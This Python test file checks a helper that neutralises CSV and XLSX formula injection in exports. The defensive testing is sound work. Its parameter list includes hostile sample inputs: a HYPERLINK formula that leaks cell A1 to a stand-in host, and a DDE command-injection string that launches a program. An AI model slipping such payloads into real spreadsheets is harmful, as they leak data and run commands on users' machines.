"""The one neutralising helper of every CSV and XLSX export."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from tournage.common.exports import Formula, SafeCsvWriter, append_row, neutralise, restored


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x?leak="&A1,"x")', '\'=HYPERLINK("http://x?leak="&A1,"x")'),
        ("+33 6 12", "+33 6 12"),
        ("+HYPERLINK(1)", "'+HYPERLINK(1)"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12,50", "-12,50"),
        ("+3", "+3"),
        ("- 5 %", "'- 5 %"),
        ("Nuit, moulin", "Nuit, moulin"),
        (-12, -12),
        (None, None),
        (Formula("=SUM(A1:A3)"), "=SUM(A1:A3)"),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def test_xlsx_cells_are_text_and_only_marked_formulas_compute() -> None:
    book = Workbook()
    append_row(book.active, ["=1+1", Formula("=1+1"), "a\x00b", 3])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [
        ("'=1+1", "s"),
        ("=1+1", "f"),
        ("ab", "s"),
        (3, "n"),
    ]


def test_csv_writer() -> None:
    out = io.StringIO()
    SafeCsvWriter(out, delimiter=";").writerows([["=1+1", "ok", -2]])
    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == ["'=1+1", "ok", "-2"]


@pytest.mark.parametrize("text", ["=1+1", "@", "-cmd", "'quoted", "-12", "plain"])
def test_a_neutralised_cell_reads_back_as_written(text: str) -> None:
    assert restored(neutralise(text)) == text
